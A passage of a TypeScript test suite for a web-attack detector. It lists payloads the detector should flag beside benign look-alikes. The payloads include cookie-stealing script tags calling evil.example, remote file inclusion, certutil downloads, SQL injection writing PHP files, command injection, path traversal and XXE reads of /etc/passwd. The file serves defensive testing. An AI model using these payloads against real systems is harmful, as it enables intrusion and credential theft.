  ["body:json", JSON.stringify({ tpl: "<p>@(Model.Price * Model.Count)</p>" })],
];

// Velocity's `#set` assigning arithmetic on two numbers (velocity.ts), behind a User-Agent too: ssti.
const VELOCITY_PROBE: Case[] = [
  ["header:User-Agent", "#set($x=69*10)$x Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"],
  ["body:json", JSON.stringify({ tpl: "Hello #{set}( $!{total} = 1337 + 1 )$total, have a nice weekend" })],
  ["query", "email=" + encodeURIComponent("#set($a = 7 * 7)$a Thanks again for the quick response yesterday!")],
];
const NOT_VELOCITY_PROBE: Case[] = [
  ["body:json", JSON.stringify({ tpl: "#set($total = $price * $count)$total" })],
  ["body:json", JSON.stringify({ tpl: "#set($x = 5)$x" })],
  ["query", "q=" + encodeURIComponent("reset(7*7) or #sets(1+1)")],
];

// Remote file inclusion (rfi.ts): a script's or a text file's URL ended by `?`: rce.
const REMOTE_INCLUDE: Case[] = [
  ["query", "page=http://198.51.100.7/shell.txt?"],
  ["query", "include=http://evil.example/x.php?&cmd=id"],
  ["query", "mod=HTTPS://evil.example/a/b/c.inc??"],
  ["body:json", JSON.stringify({ file: "ftp://evil.example/c.php?" })],
];
const NOT_REMOTE_INCLUDE: Case[] = [
  ["query", "redirect_uri=https://app.example.com/callback?"],
  ["query", "u=https://example.com/index.php?page=1"],
  ["query", "u=https://example.com.php?"],
  ["header:referer", "https://example.com/index.php?"],
];

// Verdicts read a JSON document in a JSON string as the application that parses it again does
// (request/jsonbody.ts): its strings are parts, its keys keys.
const NESTED_JSON: Case[] = [
  ["body:json", JSON.stringify({ msg: JSON.stringify({ to: "a@example.com\nBcc: victim@example.com", subject: "hi" }) })],
  ["body:json", JSON.stringify({ t: JSON.stringify({ constructor: { a: 1, prototype: { isAdmin: true } } }), z: "ok fine" })],
  ["body:json", JSON.stringify({ args: JSON.stringify({ cmd: "certutil -urlcache -f http://evil.example/a a" }) })],
];
const NOT_NESTED_JSON: Case[] = [
  ["body:json", JSON.stringify({ arguments: JSON.stringify({ to: "a@example.com", subject: "Re: your order", body: "Thanks!\nAnn" }) })],
];

// A script element that loads code or whose code calls, assigns or runs a tagged template
// (scriptelement.ts): xss, or rce for one the server runs.
const SCRIPT_ELEMENT: Case[] = [
  ["query", "year=2021%3C/title%3E%3Cscript%3Ealert(%27x%27)%3C/script%3E"],
  ["query", "q=<script>alert('xss')</script>"],
  ["query", "q=<ScRiPt >prompt`1`</sCrIpT>"],
  ["header:User-Agent", "<script>alert(1)</script> Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"],
  ["body:json", JSON.stringify({ bio: "hi</textarea><script>location='//evil.example/?c='+document.cookie</script>" })],
  ["query", "q=<script/src=//evil.example/x.js></script>"],
  // From elsewhere, or from a path the attacker chose.
  ["query", "q=" + encodeURIComponent("<SCRIPT SRC=http://evil.example/xss.js></SCRIPT>")],
  ["body:json", JSON.stringify({ bio: "<script src=/uploads/avatar.js></script>" })],
  ["query", "q=" + encodeURIComponent("<script src=data:,alert(1)></script>")],
  ["body:form", "c=<script type=text/javascript>\n// load\nnew Image().src='//x.example/'+document.cookie</script>"],
  // A comment before it is no page; padding cut into pieces leaves it in its text.
  ["query", "q=" + encodeURIComponent("<!-- x --><script>alert(1)</script>")],
  ["query", "q=" + "a".repeat(40) + encodeURIComponent("        <script>alert(1)</script>")],
];
const NOT_SCRIPT_ELEMENT: Case[] = [
  // A page's own: a comment, JSON-LD, a template, an empty element, a word that starts with `script`.
  ["body:json", JSON.stringify({ pageContent: "<!DOCTYPE html>\n<html><body><div id=\"app\"></div>\n<script>\n  // Preview page (for testing)\n</script></body></html>" })],
  ["body:json", JSON.stringify({ head: '<script type="application/ld+json">{"@context": "https://schema.org", "url": "https://example.com/?a=b"}</script>' })],
  ["body:json", JSON.stringify({ tpl: '<script type="text/x-template" id="row"><td>{{ name }}</td></script>' })],
  ["query", "q=<script></script>"],
  ["query", "q=<scripts>alert(1)"],
  // A whole page sent as data (an editor extension's source): its scripts are its own.
  ["body:json", JSON.stringify({ srcdoc: "<!doctype html><html lang='en'><head><script src='https://cdn.example.com/sdk.js'></script></head><body><script>window.sdk.init(function (api) { api.window.startAutoResizer() })</script></body></html>" })],
  // The same under its licence's comment, and one indented, whose runs of blanks cut it into pieces
  // (decode/texts.ts addPieces) that do not open with its doctype.
  ["body:json", JSON.stringify({ html: "<!--\n  Copyright (c) Example Corp.\n  Licensed under the Apache License, Version 2.0.\n-->\n<!DOCTYPE html>\n<html lang=\"en\"><head><title>Inspector</title><script type=\"module\" crossorigin src=\"/assets/index.js\"></script></head><body><div id=\"root\"></div></body></html>" })],
  ["body:json", JSON.stringify({ html: "<!DOCTYPE html>\n<html>\n  <head>\n        <title>Release notes</title>\n        <script src=\"/assets/app.js\"></script>\n  </head>\n  <body>\n        <div id=\"root\"></div>\n  </body>\n</html>" })],
  ["query", "q=how to use the script tag"],
  // A README's own script, from the page's directory.
  ["body:json", JSON.stringify({ content: "## Usage\n\nIn a browser:\n\n`<script src=\"base64js.min.js\"></script>`\n\nthen call `base64js.toByteArray(s)`." })],
  ["body:json", JSON.stringify({ content: "Include it:\n\n    <script src=./dist/min.natural-compare.js></script>\n" })],
];
// An event handler attribute that calls, outside any tag: a value breaking out of an attribute.
const HANDLER_ATTRIBUTE: Case[] = [
  ["header:User-Agent", "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15 onmouseover=alert(1);"],
  ["header:User-Agent", "x\" OnERROr=alERt(1);> Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15"],
  ["query", "q=%27%20onfocus%3Dalert%601%60%20autofocus%3D%27"],
];
const NOT_HANDLER_ATTRIBUTE: Case[] = [
  ["body:json", JSON.stringify({ code: "window.onload = init();" })],
  ["body:json", JSON.stringify({ status: "online=v1.2 (beta)" })],
  ["body:json", JSON.stringify({ snippet: "el.onclick=function(){go()}" })],
  ["query", "q=onclick handler example"],
];
const SERVER_SCRIPT: Case[] = [
  ["body:xml", '<%@ Page Language="C#" %>\n<script Language="c#" runat="server">\nvoid Page_Load(object sender, EventArgs e)\n{\n    Response.Write("x");\n}\n</script>'],
];

// A scanner's out-of-band interaction host (oasthost.ts) in a text with a '/': the class a lexer
// confirmed in the request, else scanner. A lone host is not read (its cost in every text).
const OAST_HOST: Case[] = [
  ["query", "url=http://www.interact.sh"],
  ["query", "u=https://abc123.oast.fun/x"],
  ["query", "cmd=wget http://abc.oast.fun"],
  ["header:Cookie", "X-AnonResource=true; X-AnonResource-Backend=sdedlkf80jbcx4fhaabr.oast.site/ecp/default.flt?~3;"],
  ["body:xml", '<?xml version="1.0"?><!DOCTYPE m SYSTEM "http://k1by2gtt74.OAST.LIVE/test.xml"><m/>'],
  ["body:json", JSON.stringify({ callback: "https://x.burpcollaborator.net:443/a" })],
];
const NOT_OAST_HOST: Case[] = [
  ["query", "u=https://toast.live/menu"],
  ["query", "u=https://roast.site/menu"],
  ["query", "u=https://oast.me.example.com/"],
  ["query", "u=https://interact.shop/"],
  ["query", "u=https://webhook.site/abc"],
];

// A command after an IPv4 address and a pipe or `&` (cmdinject.ts commandAfterAddress), substituted
// by `$(` into a name glued to it or by backquotes that close again (commandAfterArgument,
// substitutionAfterArgument), or written with `$IFS` for its blanks (gluedIfsAt): rce.
const COMMAND_AFTER_ADDRESS: Case[] = [
  ["query", "ping=8.8.8.8%7Cset&id=926516"],
  ["query", "ping=37.215.143.81%7C%7Cenv"],
  ["body:json", JSON.stringify({ ping: "169.197.205.176||env", category: "cheap" })],
  ["body:form", "addr=150.183.211.111%26netstat%20-an&ref=nav"],
  ["query", "v=346&ping=201.155.196.123||echo%20pwned"],
];
const NOT_COMMAND_AFTER_ADDRESS: Case[] = [
  ["query", "hosts=192.168.1.1%7C10.0.0.2"],
  ["query", "q=10.0.0.1%20%26%20more%20servers"],
  ["query", "q=1.2.3.4%7Chost%7Cup"],
  ["query", "q=10.5.3%7Cdate"],
];
const COMMAND_SUBSTITUTION: Case[] = [
  ["body:form", "callback=pizza$(set)&format=json"],
  ["body:form", "callback=pricing%24(env)&page=30"],
  ["query", "filename=jacket.txt%24(set)"],
  ["body:json", JSON.stringify({ dir: "index.html`echo pwned`" })],
  ["body:form", "dir=index.html%60netstat%20-an%60&utm_medium=cpc"],
];
const NOT_COMMAND_SUBSTITUTION: Case[] = [
  ["body:json", JSON.stringify({ code: "var el = $(id);" })],
  ["query", "q=price$(5)"],
  ["body:json", JSON.stringify({ md: "see `echo hi` here" })],
  ["body:json", JSON.stringify({ md: "the config`s file" })],
];
const GLUED_IFS: Case[] = [
  ["body:form", "exec=l\\s$IFS$9-l$IFS$9/"],
  ["query", "host=%60p$@ing$IFS$9127.0.0.1%60"],
  ["body:form", "q=login%3Bip%24%7BIFS%7Da&gclid=hzWklSbwwmsNXKE4jbHY3S5RPfDf3CnaGx2wTJ0dkU6VvfKyodWUz-jkiCkeFt"],
  ["body:form", "_method=PUT&cmd=%26ca%24%40t%24IFS%249%2Fe%3F%3F%2Fp%3Fss%3F%3F%26&action=update"],
];
const NOT_GLUED_IFS: Case[] = [
  ["body:json", JSON.stringify({ script: "OLD_IFS=$IFS; IFS=,; read -r a b <<< \"$line\"; IFS=$OLD_IFS" })],
  ["query", "q=the%20$IFS%20variable"],
  ["query", "q=$IFSX"],
];
// Two literals compared after AND or OR (sqlverdict.ts literalComparison): the boolean injection's
// condition, in prose or behind a User-Agent as well.
const LITERAL_COMPARISON: Case[] = [
  ["query", "order=Release+notes%3A+fixed+a+crash+when+selecting+an+empty+folder+%26+improved+start-up+time.+1+and+1%3D1+Great+product%2C+arrived+on+time"],
  ["header:Cookie", "theme=HOPE+AND+-8%3D3; consent=true"],
  ["header:User-Agent", "python-requests/2.31.0 ' and 'one'='one"],
  ["body:form", "year=A-1\"%09and%09\"x\"=\"y&remember=1"],
  ["body:json", JSON.stringify({ artist: "1 || 1 = 1" })],
  ["header:User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 ' or 1=1 or '"],
  // A session function's call is a literal of the row too.
  ["query", "page=AND%20CONNECTION_ID()=CONNECTION_ID()&category=review"],
  ["query", "username=1+and+user_name()+=+'dbo'&id=272164"],
  // A name compared with itself.
  ["query", "user=%20or%20x=x"],
  ["header:X-Forwarded-For", "176.39.1.208,  OR a = A"],
  // A `$` in the payload's literal that expands nothing.
  ["query", "q=" + encodeURIComponent("x' or '$1'='$1")],
];
const NOT_LITERAL_COMPARISON: Case[] = [
  ["query", "q=a%3D1%20and%20b%3D2"],
  ["body:json", JSON.stringify({ code: "if (x == 1 && y == 2) go();" })],
  ["query", "q=price%3E%3D10%20and%20qty%3C%3D5"],
  ["query", "q=version%202%20or%20later%3Dbetter"],
  ["body:json", JSON.stringify({ note: "band 1=1 mapping" })],
  ["body:json", JSON.stringify({ code: "if a() and f()=g() then" })],
  ["body:json", JSON.stringify({ code: "ok = ready() and count() == 0" })],
  ["query", "q=" + encodeURIComponent("1 or abc=abcd")],
  ["query", "q=" + encodeURIComponent("x or a=a1 and b1=b")],
  // A shell's test of a variable's value (an uploaded script, a CI step), not a constant compared.
  ["body:json", JSON.stringify({ run: 'if [[ "${ID}" != "ubuntu" && "${ID}" != "debian" ]]; then exit 1; fi' })],
  ["body:form", "script=" + encodeURIComponent('[ "$OS" = "linux" ] || [ "$ARCH" = "x86_64" ] && echo ok')],
];

// The same condition in JavaScript's equality, after a quote that breaks out of a `$where` string
// (sqlverdict.ts literalComparison's CODE_COMPARISON): nosqli. Code's own comparisons break out of nothing.
const JS_COMPARISON: Case[] = [
  ["query", "username=\" || \"a\"==\"a"],
  ["query", "username=admin' || '1'==='1"],
  ["body:form", "username=support'+||+1==1//&password=x"],
  ["body:json", JSON.stringify({ username: "x\" && \"\"!==\"y" })],
];
const NOT_JS_COMPARISON: Case[] = [
  ["body:json", JSON.stringify({ code: "ok = ready() and count() == 0" })],
  ["body:json", JSON.stringify({ code: "if (a && 1 === 1) go();" })],
  ["body:json", JSON.stringify({ code: "if (x == 1 && y == 2) go();" })],
  ["body:json", JSON.stringify({ code: "if (s == 'a' || t == 'b') go();" })],
  ["query", "q=He%20said%20%22yes%22%20%7C%7C%20%22no%22"],
];

// MySQL's file write after `INTO` (sqlverdict.ts intoOutfile), Oracle's DBMS_LOCK.SLEEP (probeCall).
const FILE_WRITE_SQLI: Case[] = [
  ["header:User-Agent", "' into outfile '/var/www/aa.php'--a- Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"],
  ["header:User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0 1 into outfile 'asd'"],
  ["query", "q=x'%20into/**/dumpfile%20'/var/www/s.php'%23"],
  ["header:User-Agent", "1';begin dbms_lock.SLEEP(5); end AND 'icny' like 'icny Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15"],
];
const NOT_FILE_WRITE_SQLI: Case[] = [
  ["query", "q=put%20it%20into%20outfiles%20'x'"],
  ["query", "q=save%20intooutfile%20'x'"],
  ["query", "q=dbms_lock.sleep"],
];

// A request path with a `..` segment (pathclimb.ts holdsDotDotSegment): traversal, above the root or
// under it (an authorization checked by the path's prefix walked past).
const PATH_CLIMB: Case[] = [
  ["path", "/public/plugins/grafana-worldmap-panel/../../../../../conf/defaults.ini"],
  ["path", "/static/..;/..;/WEB-INF/web.xml"],
  ["path", "/assets/%2e%2e/%2e%2e/app/config.yml"],
  ["path", "/a//b/../../../x"],
  ["path", "\\img\\..\\..\\app.config"],
  ["path", "/api/v1/totp/user-backup-code/../../system/active-users"],
  ["path", "/docs/./guide/../index.html"],
  ["path", "/app/..;/manager/html"],
];
const NOT_PATH_CLIMB: Case[] = [
  ["path", "/x/..data/..."],
  ["path", "/releases/v1..v2/diff"],
  ["path", "/a/b../c/.../d"],
];

// A value that opens by climbing two directories (pathclimb.ts climbsTwiceAtStart): traversal.
const VALUE_CLIMB: Case[] = [
  ["query", "file=../../LocalSettings.php"],
  ["query", "lang=../../thinkphp/base"],
  ["body:json", JSON.stringify({ tpl: "..\\..\\views\\admin.php" })],
  ["body:form", "page=" + encodeURIComponent("../../../sites/default/settings.php")],
];
const NOT_VALUE_CLIMB: Case[] = [
  ["query", "next=../account"],
  ["query", "q=" + encodeURIComponent("see ../../ above")],
  ["body:json", JSON.stringify({ import: "./../../utils/cls.ts" })],
  ["query", "p=../../"],
];

// An entity a parser fetches, a parameter entity, or an XInclude (xxe.ts).
const EXTERNAL_ENTITY: Case[] = [
  ["body:xml", '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'],
  ["body:xml", '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/x.dtd">%x;]><a/></soap:Body></soap:Envelope>'],
  ["body:form", "feed=" + encodeURIComponent('<!DOCTYPE x [<!ENTITY a PUBLIC "-//A//B" "expect://id">]><x>&a;</x>')],
  ["body:json", JSON.stringify({ xml: '<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>' })],
  ["query", "svg=" + encodeURIComponent('<!DOCTYPE svg [ <!ENTITY xxe SYSTEM "file:///etc/hostname" > ]><svg xmlns="http://www.w3.org/2000/svg"><text>&xxe;</text></svg>')],
];
const NOT_EXTERNAL_ENTITY: Case[] = [
  ["body:xml", '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd"><html xmlns="http://www.w3.org/1999/xhtml"><body><p>Hi</p></body></html>'],
  ["body:xml", '<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [<!ENTITY ns_svg "http://www.w3.org/2000/svg"><!ENTITY ns_xlink "http://www.w3.org/1999/xlink">]><svg xmlns="&ns_svg;"/>'],
  ["body:json", JSON.stringify({ doc: '<!DOCTYPE book [<!ENTITY product "Acme Widget">]><book><title>&product; guide</title></book>' })],
  ["body:xml", '<doc><x:include href="part2.xml"/></doc>'],
];

describeVerdicts("%s payload verdicts", () => core, [
  ["external-entity", "xxe", EXTERNAL_ENTITY, NOT_EXTERNAL_ENTITY],
  ["value-climb", "traversal", VALUE_CLIMB, NOT_VALUE_CLIMB],
  ["js-comparison", "nosqli", JS_COMPARISON, NOT_JS_COMPARISON],
  ["path-climb", "traversal", PATH_CLIMB, NOT_PATH_CLIMB],
  ["in a JSON document in a JSON string", "crlf|rce", NESTED_JSON, NOT_NESTED_JSON],
  ["remote-include", "rce", REMOTE_INCLUDE, NOT_REMOTE_INCLUDE],
  ["globbed-path", "rce|traversal", GLOBBED_PATH, NOT_GLOBBED_PATH],
  ["system-command-line", "rce", SYSTEM_COMMAND_LINE, NOT_SYSTEM_COMMAND_LINE],
  ["razor-probe", "ssti", RAZOR_PROBE, NOT_RAZOR_PROBE],
  ["velocity-probe", "ssti", VELOCITY_PROBE, NOT_VELOCITY_PROBE],
  ["bash-net-redirect", "rce", BASH_NET_REDIRECT, NOT_BASH_NET_REDIRECT],
  ["living-off-the-land", "rce", LIVING_OFF_THE_LAND, NOT_LIVING_OFF_THE_LAND],
  ["yaml-gadget", "rce", YAML_GADGET, NOT_YAML_GADGET],
  ["python-escape", "rce|ssti|xss|nosqli", PYTHON_ESCAPE, NOT_PYTHON_ESCAPE],
  ["powershell-cradle", "rce", POWERSHELL_CRADLE, NOT_POWERSHELL_CRADLE],
  ["powershell-cmdlet", "rce", POWERSHELL_CMDLET, NOT_POWERSHELL_CMDLET],
  ["php-string-call", "rce", PHP_STRING_CALL, NOT_PHP_STRING_CALL],
  ["batch-for", "rce", BATCH_FOR, NOT_BATCH_FOR],
  ["slash-lookalike", "open_redirect", SLASH_LOOKALIKE, NOT_SLASH_LOOKALIKE],
  ["brace-probe", "ssti", BRACE_PROBE, NOT_BRACE_PROBE],
  ["php-tag-shell", "rce", PHP_TAG_SHELL, NOT_PHP_TAG_SHELL],
  ["vbscript-call", "xss", VBSCRIPT_CALL, NOT_VBSCRIPT_CALL],
  ["storage-theft", "xss", STORAGE_THEFT, NOT_STORAGE_THEFT],
  ["session-fixation", "xss", SESSION_FIXATION, NOT_SESSION_FIXATION],
  ["ldap-filter", "ldapi", LDAP_FILTER, NOT_LDAP_FILTER],
  ["event-handler", "xss", EVENT_HANDLER, NOT_EVENT_HANDLER],
  ["script-element", "xss", SCRIPT_ELEMENT, NOT_SCRIPT_ELEMENT],
  ["handler-attribute", "xss", HANDLER_ATTRIBUTE, NOT_HANDLER_ATTRIBUTE],
  ["oast-host", "scanner|ssrf|rce|open_redirect|xxe", OAST_HOST, NOT_OAST_HOST],
  ["server-script-element", "rce", SERVER_SCRIPT, []],
  ["php-superglobal", "rce", PHP_SUPERGLOBAL, NOT_PHP_SUPERGLOBAL],
  ["command-injection", "rce", COMMAND_INJECTION, NOT_COMMAND_INJECTION],
  ["command-after-address", "rce", COMMAND_AFTER_ADDRESS, NOT_COMMAND_AFTER_ADDRESS],
  ["command-substitution", "rce", COMMAND_SUBSTITUTION, NOT_COMMAND_SUBSTITUTION],
  ["glued-ifs", "rce", GLUED_IFS, NOT_GLUED_IFS],
  ["command-after-sentence", "rce", COMMAND_AFTER_SENTENCE, NOT_COMMAND_AFTER_SENTENCE],
  ["os-file-after-sentence", "traversal", OS_FILE_AFTER_SENTENCE, NOT_OS_FILE_AFTER_SENTENCE],
  ["sql-injection", "sqli", SQLI, NOT_SQLI],
  ["stacked-query", "sqli", STACKED_SQLI, NOT_STACKED_SQLI],
  ["login-bypass", "sqli", LOGIN_BYPASS, NOT_LOGIN_BYPASS],
  ["probe-call", "sqli", PROBE_SQLI, NOT_PROBE_SQLI],
  ["file-write", "sqli", FILE_WRITE_SQLI, NOT_FILE_WRITE_SQLI],
  ["literal-comparison", "sqli", LITERAL_COMPARISON, NOT_LITERAL_COMPARISON],
  ["jndi-lookup", "jndi", JNDI, NOT_JNDI],
  ["shellshock", "rce", SHELLSHOCK, NOT_SHELLSHOCK],
  ["ssi-directive", "rce", SSI, NOT_SSI],
  ["os-file", "traversal", OS_FILE, NOT_OS_FILE],
  ["lenient-traversal", "traversal", LENIENT_TRAVERSAL, NOT_LENIENT_TRAVERSAL],
  // A redirect or a fetch: the class is the one of the two the model scored higher.
  ["hidden-host", "ssrf|open_redirect", IP_HOST, NOT_IP_HOST],
  ["secret-file", "traversal", SECRET_FILE, NOT_SECRET_FILE],
  ["php-wrapper (code)", "rce", WRAPPER_RCE, NOT_WRAPPER],
  ["php-wrapper (file)", "traversal", WRAPPER_READ, []],
  ["sandbox-escape", "rce|ssti|xss|nosqli", SANDBOX_ESCAPE, NOT_SANDBOX_ESCAPE],
  ["java-exec", "rce|ssti|xss|nosqli", JAVA_EXEC, NOT_JAVA_EXEC],
  ["dotnet-exec", "rce|ssti|xss|nosqli", DOTNET_EXEC, NOT_DOTNET_EXEC],
  ["ognl", "rce|ssti|xss|nosqli", OGNL, NOT_OGNL],
  ["node-exec", "rce|ssti|xss|nosqli", NODE_EXEC, NOT_NODE_EXEC],
  ["dialog-gadget", "xss", DIALOG_GADGET, NOT_DIALOG_GADGET],
  ["decoded-script", "rce|ssti|xss|nosqli", DECODED_SCRIPT, NOT_DECODED_SCRIPT],
  ["jsfuck", "xss", JSFUCK, NOT_JSFUCK],
  ["php-config", "rce", PHP_CONFIG, NOT_PHP_CONFIG],
]);
